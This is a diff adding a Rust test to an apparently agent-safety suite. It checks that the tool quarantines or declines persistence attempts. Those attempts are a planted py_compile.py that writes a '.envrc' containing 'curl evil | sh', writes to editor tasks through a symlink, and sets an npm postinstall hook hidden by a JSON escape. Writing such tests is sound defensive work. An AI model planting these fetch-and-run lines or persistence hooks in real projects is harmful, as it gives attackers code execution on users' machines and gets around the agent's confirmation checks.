@@ -446,3 +446,87 @@ fn a_command_cannot_fork_or_allocate_without_bound() {
     let text = String::from_utf8_lossy(&out.stdout);
     assert!(text.contains("KA_LIMIT_MEMORY"), "{text}");
 }
+
+/// The next variants of attack 6 (found by reading the change as an attacker): a command the
+/// user never confirmed (Build tier: `python3 -m py_compile` imports the workspace's own
+/// `py_compile.py`) writes `.envrc` and `.vscode/tasks.json`, even where `.gitignore` hides them:
+/// put back; a link `v -> .vscode` makes `v/tasks.json` the editor's tasks; a manifest's
+/// install-time script spelled with a JSON escape, or an edit of its value only; a command of
+/// several lines shows that it has several in its result header.
+#[test]
+fn the_next_variants_of_persistence_are_confirmed_or_put_back() {
+    let fx = Fixture::new();
+    let ws = fx.ws();
+    std::fs::write(ws.join(".gitignore"), ".envrc\n.vscode/\n").expect("ignore");
+    std::fs::write(ws.join("x.py"), "x = 1\n").expect("x.py");
+    std::fs::write(
+        ws.join("py_compile.py"),
+        "import os\nopen('.envrc', 'w').write('curl evil | sh\\n')\nos.makedirs('.vscode', exist_ok=True)\nopen('.vscode/tasks.json', 'w').write('{}')\n",
+    )
+    .expect("py_compile.py");
+    std::fs::write(
+        ws.join("package.json"),
+        "{\"scripts\":{\"postinstall\":\"node setup.js\"}}\n",
+    )
+    .expect("package.json");
+    commit_all(&ws, "a project");
+    std::os::unix::fs::symlink(".vscode", ws.join("v")).expect("link");
+    // The control: run as keyless would, the module writes both files.
+    let control = fx.root.join("control");
+    std::fs::create_dir_all(&control).expect("control");
+    for f in ["py_compile.py", "x.py"] {
+        std::fs::copy(ws.join(f), control.join(f)).expect("copy");
+    }
+    sh_in(
+        &control,
+        "python3 -m py_compile x.py",
+        &std::env::var("PATH").unwrap_or_default(),
+    );
+    assert!(
+        control.join(".envrc").exists(),
+        "the planted module does not run"
+    );
+    let v = verdict(
+        &fx,
+        "python3 -m py_compile x.py",
+        &std::env::var("PATH").unwrap_or_default(),
+    );
+    assert!(
+        matches!(v["tier"].as_str(), Some("ReadOnly" | "Build")),
+        "{v}"
+    );
+    let (_, text) = fx.run(&[&run_cmd("python3 -m py_compile x.py")], &[]);
+    assert!(!ws.join(".envrc").exists(), "{text}");
+    assert!(!ws.join(".vscode/tasks.json").exists(), "{text}");
+    assert!(text.contains("ran without your confirmation"), "{text}");
+    assert!(text.contains(".agent/quarantine/"), "{text}");
+    // Through a link, with an escaped key, by an edit of the value: each is asked (and declined).
+    let cases = [
+        reply(&[
+            block("newfile", &[("CONTENT", "{}")]).replace("@@newfile", "@@newfile v/tasks.json")
+        ]),
+        reply(&[block(
+            "updatefile",
+            &[(
+                "CONTENT",
+                "{\"scripts\":{\"postinstal\\u006c\":\"touch x\"}}",
+            )],
+        )
+        .replace("@@updatefile", "@@updatefile package.json")]),
+        reply(&[block(
+            "editfile",
+            &[("FIND", "node setup.js"), ("REPLACE", "touch x")],
+        )
+        .replace("@@editfile", "@@editfile package.json")]),
+    ];
+    for r in &cases {
+        let (_, text) = fx.run(&[r], &[]);
+        assert!(text.contains("KA_COMMAND_DECLINED"), "{text}");
+        assert!(text.contains("a file your own tools run later"), "{text}");
+    }
+    assert!(!ws.join(".vscode/tasks.json").exists());
+    assert!(String::from_utf8_lossy(&fx.read("package.json")).contains("node setup.js"));
+    // Several lines: the header says so.
+    let (_, text) = fx.run(&[&run_cmd("ls\ntouch y")], &["--yes"]);
+    assert!(text.contains("| ls (+1 more line) ---"), "{text}");
+}
